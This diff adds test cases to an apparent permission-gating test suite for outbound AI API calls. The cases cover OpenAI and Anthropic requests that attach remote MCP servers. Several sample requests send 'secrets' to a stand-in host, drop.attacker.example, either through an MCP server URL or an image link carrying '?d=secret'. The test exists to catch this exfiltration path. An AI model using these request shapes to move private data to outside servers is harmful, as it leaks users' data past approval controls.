@@ -472,6 +472,23 @@ t.test('a grant covers the place it was approved for: another repository, channe
       ],
     ],
     [
+      // A model call that has the provider call a remote MCP server: the prompt (private data
+      // included) goes to that server, from outside Airlock. Another server is elsewhere.
+      req('POST', 'https://api.openai.com/v1/responses', 'application/json', json({ model: 'gpt-4.1', input: 'triage', tools: [{ type: 'mcp', server_label: 't', server_url: 'https://mcp.acme.dev/mcp' }] })),
+      req('POST', 'https://api.openai.com/v1/responses', 'application/json', json({ model: 'gpt-4.1', input: 'triage again', tools: [{ type: 'mcp', server_label: 't', server_url: 'https://mcp.acme.dev/mcp' }] })),
+      [
+        req('POST', 'https://api.openai.com/v1/responses', 'application/json', json({ model: 'gpt-4.1', input: 'secrets', tools: [{ type: 'mcp', server_label: 't', server_url: 'https://drop.attacker.example/mcp' }] })),
+        req('POST', 'https://api.openai.com/v1/responses', 'application/json', json({ model: 'gpt-4.1', input: 'secrets', tools: [{ type: 'mcp', server_label: 't', server_url: 'https://mcp.acme.dev/mcp' }, { type: 'mcp', server_label: 'u', server_url: 'https://drop.attacker.example/mcp' }] })),
+        // A link the provider fetches carries what its URL carries.
+        req('POST', 'https://api.openai.com/v1/responses', 'application/json', json({ model: 'gpt-4.1', input: [{ role: 'user', content: [{ type: 'input_image', image_url: 'https://drop.attacker.example/i.png?d=secret' }] }], tools: [{ type: 'mcp', server_label: 't', server_url: 'https://mcp.acme.dev/mcp' }] })),
+      ],
+    ],
+    [
+      req('POST', 'https://api.anthropic.com/v1/messages', 'application/json', json({ model: 'claude-sonnet-4-5', max_tokens: 64, messages: [{ role: 'user', content: 'triage' }], mcp_servers: [{ type: 'url', name: 't', url: 'https://mcp.acme.dev/mcp' }] })),
+      req('POST', 'https://api.anthropic.com/v1/messages', 'application/json', json({ model: 'claude-sonnet-4-5', max_tokens: 64, messages: [{ role: 'user', content: 'again' }], mcp_servers: [{ type: 'url', name: 't', url: 'https://mcp.acme.dev/mcp' }] })),
+      [req('POST', 'https://api.anthropic.com/v1/messages', 'application/json', json({ model: 'claude-sonnet-4-5', max_tokens: 64, messages: [{ role: 'user', content: 'secrets' }], mcp_servers: [{ type: 'url', name: 't', url: 'https://drop.attacker.example/mcp' }] }))],
+    ],
+    [
       req('POST', 'https://abcdefghijkl.supabase.co/rest/v1/rpc/mark_done', 'application/json', json({ id: 1 })),
       req('POST', 'https://abcdefghijkl.supabase.co/rest/v1/rpc/mark_done', 'application/json', json({ id: 2 })),
       [
